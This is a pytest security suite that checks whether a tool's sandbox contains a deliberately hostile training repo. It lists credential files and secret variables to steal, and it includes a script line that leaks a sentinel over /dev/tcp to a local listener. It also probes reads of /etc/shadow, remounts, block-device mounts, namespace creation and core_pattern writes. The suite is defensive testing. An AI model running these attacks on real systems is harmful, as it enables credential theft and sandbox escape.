"""Issue 22 through `tipc run`: one hostile demo copy per reviewer (root, and a non-root user where the kernel
allows) tries every attack a step can try, in one `tipc run --only train`; each test below reads its part.

- item 1: a line of the repo's test script (observed to plan the run; config values: test_observation.py);
- item 2: remount, umount2 of the overlay, mounting the root block device, new namespaces, kernel knobs;
- item 3: secret variables (one passed with --pass-env), credential files under HOME, root-only host files,
  the host's /tmp;
- what holds: no network, writes land in the copy-on-write layers, daemons die with the run.

The payload tries them in that order in one process (tests.security.hostile); a later attack's result does not
depend on an earlier one's in a sandbox that holds.
"""

from __future__ import annotations

import os
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.security.conftest import (
    Attacked,
    Listener,
    Reviewer,
    _hostile,
    contained,
    ended,
    expect_recorded,
    left_alive,
)

pytestmark = pytest.mark.integration
# Files under HOME that hold credentials: the ones tipc once hid by name, and ones it did not.
CREDENTIALS = (
    ".ssh/id_rsa",
    ".aws/credentials",
    ".npmrc",
    ".cargo/credentials.toml",
    ".kaggle/kaggle.json",
    ".huggingface/token",
    ".bash_history",
    ".config/some-tool/token",
)
SECRET_VARS = ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY")
PASSED = "TIPC_ATTACK_PASSED"


def _own_cgroup_procs() -> str:
    """The pids cgroup.procs file of the group above this process's own (v1 pids or v2)."""
    for line in Path("/proc/self/cgroup").read_text().splitlines():
        _, controllers, path = line.split(":", 2)
        if controllers in ("pids", ""):
            base = Path("/sys/fs/cgroup") / ("pids" if controllers == "pids" else "") / path.lstrip("/")
            if not base.is_dir():
                base = Path("/sys/fs/cgroup") / path.lstrip("/")
            return str(base.parent / "cgroup.procs")
    return ""


@pytest.fixture(scope="module")
def attacked(module_reviewer: Reviewer) -> Iterator[Attacked]:
    reviewer = module_reviewer
    repo = _hostile(reviewer)
    name = f"tipc-attack-{uuid.uuid4().hex}.txt"
    markers = {
        "host": reviewer.host / "written.txt",
        "script": reviewer.host / "observed.txt",
        "repo": repo.repo / name,
        "home": reviewer.home / name,
        "tmp": Path("/tmp") / name,
    }
    for rel in CREDENTIALS:
        path = reviewer.home / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"token = {repo.sentinel}\n")
    reviewer.give(reviewer.home)
    reads = {f"~/{rel}": f"~/{rel}" for rel in CREDENTIALS}
    reads.update({f"abs/{rel}": str(reviewer.home / rel) for rel in CREDENTIALS})
    host_tmp = Path("/tmp") / f"tipc-attack-{repo.sentinel}"
    host_tmp.write_text("a host temp file\n")
    listener = Listener()
    try:
        repo.train(
            "env",
            "files",
            "hostfiles",
            "hosttmp",
            "kernel",
            "net",
            "write",
            "unshare",
            "blockdev",
            "remount",
            "umount",
            "daemon",
            targets={k: str(v) for k, v in markers.items() if k in ("host", "repo", "home", "tmp")},
            reads=reads,
            port=listener.port,
            host_tmp_file=str(host_tmp),
            cgroup_procs=_own_cgroup_procs(),
            daemon_seconds="600",
        )
        repo.script_line(
            f"touch {markers['script']}; "
            f"(echo leak {repo.sentinel} > /dev/tcp/127.0.0.1/{listener.port}) 2>/dev/null || true"
        )
        repo.seal()
        env = {SECRET_VARS[0]: repo.sentinel, SECRET_VARS[1]: repo.sentinel + "aws", PASSED: repo.sentinel}
        done = reviewer.tipc(
            "run",
            str(repo.repo),
            "--device",
            "cpu",
            "--only",
            "train",
            "--no-color",
            "--pass-env",
            PASSED,
            env=env,
        )
        left = left_alive(repo.sentinel)
        yield Attacked(repo, done, listener.received(), left, markers)
    finally:
        listener.close()
        host_tmp.unlink(missing_ok=True)
        markers["tmp"].unlink(missing_ok=True)


def _ran(attacked: Attacked, key: str) -> dict[str, list[str]]:
    lines = attacked.lines()
    assert key in lines, f"the hostile train.py did not run:\n{attacked.done.stderr[-3000:]}"
    return lines


def test_tipc_ended_by_itself(attacked: Attacked) -> None:
    ended(attacked.done, 0, 1)


# ---- item 1: the repo's script and config values are evaluated only in the sandbox


def test_a_line_of_the_repo_script_runs_in_the_sandbox(attacked: Attacked) -> None:
    _ran(attacked, "env:own")  # the run went on past planning: the script was observed
    contained(
        not attacked.markers["script"].exists(), "a line of the repo's script created a file on the host"
    )
    contained(attacked.received == b"", f"something reached the host's loopback: {attacked.received[:200]!r}")
    contained(attacked.repo.unchanged(), f"the repo changed: {attacked.repo.changed_files()}")


# ---- item 2: steps cannot undo the sandbox


def test_a_step_cannot_remount_the_host_read_write(attacked: Attacked) -> None:
    lines = _ran(attacked, "remount")
    contained(not attacked.markers["host"].exists(), "the step wrote a file on the host")
    contained(lines["remount"] != ["ok"], "mount(MS_REMOUNT|MS_BIND) succeeded in the step")
    contained("ok" not in lines.get("remount:host", []), "the step wrote the host after remounting")
    expect_recorded(attacked.repo, "train", {"mount"})


def test_a_step_cannot_unmount_the_overlay_and_write_the_real_repo(attacked: Attacked) -> None:
    lines = _ran(attacked, "umount")
    contained(
        not attacked.markers["repo"].exists() and attacked.repo.unchanged(),
        f"the real repo changed: {attacked.repo.changed_files()}",
    )
    contained(lines["umount"] != ["ok"], "umount2 of the repo's overlay succeeded in the step")
    expect_recorded(attacked.repo, "train", {"umount2"})


def test_a_step_cannot_mount_the_root_block_device(attacked: Attacked) -> None:
    lines = _ran(attacked, "blockdev")
    contained(not attacked.markers["host"].exists(), "the step wrote through the mounted block device")
    contained(lines["blockdev"] != ["ok"], "mounting the root block device succeeded in the step")
    if lines["blockdev"] != ["no-device"]:
        expect_recorded(attacked.repo, "train", {"mount"})


def test_a_step_cannot_create_namespaces(attacked: Attacked) -> None:
    lines = _ran(attacked, "unshare:user")
    opened = [k for k in ("unshare:user", "unshare:mount", "unshare:net") if "ok" in lines[k]]
    contained(not opened, f"the step created namespaces: {opened}")
    expect_recorded(attacked.repo, "train", {"unshare"})


def test_a_step_cannot_open_kernel_knobs_for_writing(attacked: Attacked) -> None:
    """core_pattern (a pipe there runs a program as host root at the next crash) and the parent cgroup's
    cgroup.procs (moving there leaves the run's limits): opened for writing, never written."""
    lines = _ran(attacked, "open-w:core_pattern")
    writable = [k for k in ("open-w:core_pattern", "open-w:cgroup") if "ok" in lines[k]]
    contained(not writable, f"the step could open for writing: {writable}")


# ---- item 3: secrets


def test_a_secret_variable_does_not_reach_the_step(attacked: Attacked) -> None:
    lines = _ran(attacked, "env:own")
    seen = {v for found in lines["env:own"] for v in found.split(",")}
    contained(
        not seen & set(SECRET_VARS), f"the step saw the secret variables {sorted(seen & set(SECRET_VARS))}"
    )
    pid1 = {v for found in lines["env:pid1"] for v in found.split(",")}
    contained(
        not pid1 & set(SECRET_VARS) and all(v in ("none", "EACCES", "ENOENT", "EPERM", PASSED) for v in pid1),
        f"PID 1's environment holds {sorted(pid1)}",
    )


def test_pass_env_lets_one_variable_through(attacked: Attacked) -> None:
    contained(attacked.done.returncode != 2, f"tipc run refused --pass-env: {attacked.done.stderr[-300:]}")
    lines = _ran(attacked, "env:own")
    contained(lines["env:own"] == [PASSED], f"the step saw {lines['env:own']}")


def test_credential_files_under_home_are_not_readable(attacked: Attacked) -> None:
    lines = _ran(attacked, f"read:~/{CREDENTIALS[0]}")
    leaked = sorted(k for k, v in lines.items() if k.startswith("read:") and "secret" in v)
    contained(not leaked, f"the step read credentials: {leaked}")


def test_root_only_host_files_are_not_readable(attacked: Attacked) -> None:
    if attacked.reviewer.kind != "root":
        pytest.skip("a non-root reviewer's steps run as the reviewer: root-only files are unreadable anyway")
    lines = _ran(attacked, "read:/etc/shadow")
    contained(lines["read:/etc/shadow"] != ["ok"], "the step read /etc/shadow")
    contained(lines["list:/root"] != ["ok"], "the step listed the real /root")


def test_the_hosts_tmp_is_not_visible(attacked: Attacked) -> None:
    """The host's /tmp holds other users' files and sockets (ssh-agent, X11, Ray): a step sees its own."""
    lines = _ran(attacked, "hosttmp")
    contained(lines["hosttmp"] == ["hidden"], "the step saw a file of the host's /tmp")


# ---- what holds


def test_a_step_cannot_reach_the_hosts_network(attacked: Attacked) -> None:
    lines = _ran(attacked, "net")
    assert lines["net"] != ["ok"] and attacked.received == b""


def test_writes_to_the_repo_home_and_tmp_land_in_the_copy_on_write_layers(attacked: Attacked) -> None:
    lines = _ran(attacked, "write:repo")
    assert lines.get("write:repo") == ["ok"], f"the step could not write its own tree: {lines}"
    assert [k for k in ("repo", "home", "tmp") if attacked.markers[k].exists()] == []
    assert attacked.repo.unchanged(), attacked.repo.changed_files()
    name = attacked.markers["repo"].name
    assert list((attacked.repo.repo / "test_tipc" / "output").rglob(name)), (
        "the repo write is not in the run folder"
    )


def test_a_daemon_the_step_leaves_dies_with_the_run(attacked: Attacked) -> None:
    assert _ran(attacked, "daemon").get("daemon") == ["started"]
    assert attacked.left == [], f"processes of the run outlived it: {attacked.left}"


def test_the_marker_folders_are_really_outside_every_copy_on_write_layer(attacked: Attacked) -> None:
    """The suite's own premise: `host/` is on a mount the sandbox makes read-only, not /tmp or HOME."""
    host = attacked.reviewer.host
    assert not str(host).startswith("/tmp/") and not str(host).startswith(os.path.expanduser("~") + "/")
